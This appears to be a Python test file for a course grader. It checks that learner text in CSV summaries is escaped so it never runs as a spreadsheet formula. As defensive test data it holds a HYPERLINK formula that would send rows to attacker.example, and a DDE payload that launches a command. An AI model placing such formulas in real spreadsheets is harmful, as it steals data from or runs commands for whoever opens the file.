"""Learner text in the class CSVs never runs as a spreadsheet formula (red team, session 29: a check's message
``=HYPERLINK(...&TEXTJOIN(",",TRUE,A1:J400)...)`` in ``summary.csv`` would have sent every row to its author)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from grader import spreadsheet
from grader.batch import Job, write_summary

LEAK = '=HYPERLINK("https://attacker.example/c?d="&TEXTJOIN(",",TRUE,A1:J400),"see the regrade note")'


def test_text_that_starts_a_formula_is_kept_as_text_and_numbers_are_left_alone() -> None:
    for text in (LEAK, "+1+1", "-2+3", "@SUM(A1)", "\t=1"):
        assert spreadsheet.cell(text) == "'" + text
    for value in ("ok", "the loss is 3% off", -1.5, 0, None, ""):
        assert spreadsheet.cell(value) == value


def test_the_batch_summary_writes_a_learners_formula_as_text(tmp_path: Path) -> None:
    report = tmp_path / "alice" / "ex00.json"
    report.parent.mkdir()
    check = {"id": "ex00.inductor.code", "kind": "structure", "points": 0, "max_points": 2, "passed": False}
    check |= {"measured": -0.5, "required": None, "message": LEAK, "seconds": 1.0}
    body = {"checks": [check], "score": 0, "max_score": 2, "thresholds": "defaults", "integrity": ["=1+1"]}
    report.write_text(json.dumps(body))
    summary, scores = write_summary(tmp_path, [Job("=cmd|' /C calc'!A0", "ex00", tmp_path / "nb", "0", report)])
    (row,) = csv.DictReader(summary.open())
    assert row["message"] == "'" + LEAK and row["student"].startswith("'=cmd")
    assert row["measured"] == "-0.5", "a number is not text: it keeps its sign"
    assert list(row) == ["student", "exercise", *spreadsheet.CHECK_COLUMNS], "grades_by_check.csv's columns"
    assert row["thresholds"] == "", "a structure check has no speed thresholds"
    (total,) = csv.DictReader(scores.open())
    assert total["integrity"] == "'=1+1" and total["score"] == "0"


def test_a_checks_measured_and_required_values_are_rounded_but_never_to_a_false_pass(tmp_path: Path) -> None:
    """A speed of 1.5523452x reads 1.552 in the CSV; a shortfall keeps the digits that show it short."""
    assert spreadsheet.measures(1.5523452, 1.25) == (1.552, 1.25)
    assert spreadsheet.measures(130.62345, 10.0) == (130.6, 10.0)
    assert spreadsheet.measures(1.24996, 1.25) == (1.24996, 1.25)
    assert spreadsheet.measures(0.000123456, None) == (0.0001235, None)
    assert spreadsheet.measures(3, 0) == (3, 0) and spreadsheet.measures(None, None) == (None, None)
    report = tmp_path / "bob" / "ex01.json"
    report.parent.mkdir()
    check = {"id": "ex01.compiled.speed", "kind": "speed", "points": 0, "max_points": 1, "passed": False}
    check |= {"measured": 4.99996, "required": 5.0, "message": "too slow", "seconds": 1.0}
    report.write_text(json.dumps({"checks": [check], "score": 0, "max_score": 1, "thresholds": "t"}))
    summary, _ = write_summary(tmp_path, [Job("bob", "ex01", tmp_path / "nb", "0", report)])
    (row,) = csv.DictReader(summary.open())
    assert (row["measured"], row["required"]) == ("4.99996", "5.0")
    assert row["thresholds"] == "t", "a speed check names the thresholds it was graded against"
